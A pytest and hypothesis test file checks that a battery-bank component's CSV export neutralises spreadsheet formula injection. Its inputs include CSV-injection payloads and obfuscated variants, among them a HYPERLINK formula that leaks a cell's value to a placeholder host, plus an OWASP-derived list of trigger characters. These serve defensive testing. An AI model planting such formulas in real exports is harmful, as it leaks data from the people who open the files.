"""CSV that a spreadsheet opens: every text comes back, and none of them runs as a formula."""

import csv
from io import StringIO
from typing import Final

from hypothesis import example, given, strategies as st
import pytest

from custom_components.battery_bank.reporting.csv_file import Cell, csv_file, csv_text
from custom_components.battery_bank.reporting.export import as_csv
from custom_components.battery_bank.reporting.tables import Table

BYTE_ORDER_MARK: Final = b"\xef\xbb\xbf"
# As OWASP lists them under "CSV Injection": the signs, their full-width forms, and what may be dropped before them.
DANGEROUS: Final = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"
TEXTS: Final = st.text(st.sampled_from(f"{DANGEROUS} \u3000'\",;a1Ω") | st.characters(codec="utf-8"), max_size=12)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline=""), strict=True))


def written(value: Cell) -> str:
    """Return the cell that a value comes to."""
    _, (cell, _) = read(csv_text(["a", "b"], [[value, 1]]))
    return cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+49 30 1234",
        "-Bank 2",
        "-5",
        "@SUM(A1)",
        "\t=1",
        "\rdata",
        "\ndata",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20a",
        "  =1+1",
        "\u00a0=1+1",
        "\x00=1+1",
        "\x08\u200b\ufeff=1+1",
        "\u2060\u00ad @SUM(A1)",
        "\ufe63 1",
        "\u207a1",
        "\ufe66 1",
        "\ufe6b x",
        "\u3000\uff1d1",
        '=HYPERLINK("https://a.example/?"&A1)',
    ],
)
def test_a_text_that_could_be_a_formula_is_marked(text: str) -> None:
    assert written(text) == f"'{text}"
    (heading,) = read(csv_text([text], []))
    assert heading == [f"'{text}"]


@pytest.mark.parametrize("text", ["Bank 2", "A-2", "a=b", "1+1", "  Bank", 'Bank; 2, "x"\r\ny', "'=1", "Ω", ""])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert written(text) == text


@pytest.mark.parametrize(
    ("value", "cell"), [(-1.5, "-1.5"), (-3, "-3"), (0.004, "0.004"), (None, ""), (True, "true"), (False, "false")]
)
def test_numbers_stay_numbers(value: Cell, cell: str) -> None:
    assert written(value) == cell


@example(texts=["=1"])
@given(texts=st.lists(TEXTS, min_size=1, max_size=4))
def test_every_text_comes_back(texts: list[str]) -> None:
    heading, row = read(csv_text(texts, [texts]))
    assert heading == row
    for text, cell in zip(texts, row, strict=True):
        assert cell in (text, f"'{text}")
        assert cell[:1] not in (*DANGEROUS, "") or text == ""
        assert cell.lstrip()[:1] not in (*DANGEROUS, "") or not text.strip()


def test_lines_end_as_the_standard_says() -> None:
    assert csv_text(["a", "b"], [["1,2", 'x"y']]) == 'a,b\r\n"1,2","x""y"\r\n'  # RFC 4180, section 2


def test_a_file_says_that_it_is_utf_8() -> None:
    content = csv_file(csv_text(["resistance (mΩ)"], []))
    assert content == BYTE_ORDER_MARK + "resistance (mΩ)\r\n".encode()


def test_a_table_of_the_export_has_its_units_in_the_heading() -> None:
    table = Table(units={"note": None, "drawn": "Ah"}, rows=[{"note": "-Bank 2", "drawn": -1.5}])
    assert read(as_csv(table)) == [["note", "drawn (Ah)"], ["'-Bank 2", "-1.5"]]
